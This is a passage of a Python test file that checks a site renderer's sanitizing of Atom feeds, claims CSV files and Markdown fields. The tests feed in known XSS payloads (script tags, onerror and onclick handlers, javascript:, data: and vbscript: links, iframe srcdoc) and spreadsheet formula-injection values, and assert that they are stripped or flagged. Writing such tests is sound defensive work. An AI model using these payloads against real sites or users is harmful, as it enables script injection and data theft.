    assert feed_problems(atom("ok", "&lt;a href='javascript:x'&gt;x&lt;/a&gt;"), "f")
    assert feed_problems(b"<feed><entry>", "f")
    assert feed_problems(atom("&amp;lt;script&amp;gt;", "&lt;p&gt;ok&lt;/p&gt;", "html"), "f") == []


def test_the_csv_rules_fail_on_what_they_forbid():
    header = ",".join(CLAIMS_CSV_FIELDS) + "\n"
    assert csv_problems(header + "a,=1+1,c,d,e,f,g,h\n", "c")
    assert csv_problems(header + 'a," @SUM(1)",c,d,e,f,g,h\n', "c")
    assert csv_problems(header + "a,b\rc,=1+1,d,e,f,g,h\n", "c")
    assert csv_problems(header + "a,'=1+1,c,d,e,f,g,h\n", "c") == []


# The renderer's exact output for Markdown fields, in the manner of goldmark's tables.
MARKDOWN_CASES = [
    ("<script>alert(1)</script>", ""),
    ("<img src=x onerror=alert(1)>", '<p><img src="x"></p>'),
    ("[x](javascript:alert(1))", '<p><a rel="noopener noreferrer">x</a></p>'),
    ("[x](JaVaScRiPt:alert(1))", '<p><a rel="noopener noreferrer">x</a></p>'),
    ("[x](data:text/html,hi)", '<p><a rel="noopener noreferrer">x</a></p>'),
    ("[x](vbscript:msgbox)", '<p><a rel="noopener noreferrer">x</a></p>'),
    (
        "[ok](https://example.com/a?b=1&c=2)",
        '<p><a href="https://example.com/a?b=1&amp;c=2" rel="noopener noreferrer">ok</a></p>',
    ),
    ("![t](https://evil.example/t.png)", '<p><img alt="t"></p>'),
    (
        '<a href="https://x.example/" onclick="alert(1)">y</a>',
        '<p><a href="https://x.example/" rel="noopener noreferrer">y</a></p>',
    ),
    ('<p style="color:red" id="main">z</p>', "<p>z</p>"),
    ("<!-- hidden -->visible", "\n<p>visible</p>"),
    ("<iframe srcdoc='<b>x</b>'></iframe>", ""),
    (
        "A [@src-a] citation",
        '<p>A <sup class="citation"><a class="citation-link" href="#source-1" id="cite-1-1" rel="noopener noreferrer">[1]</a></sup> citation</p>',
    ),
]


@pytest.mark.parametrize(
    ("markdown", "expected"), MARKDOWN_CASES, ids=[c[0][:40] for c in MARKDOWN_CASES]
)
def test_markdown_renderer_output_is_exactly_sanitized(markdown, expected):
    renderer = MarkdownRenderer(LinkTable({}, ""))
    renderer.start_page("claims/x.yaml")
    assert str(renderer.block(markdown)) == expected
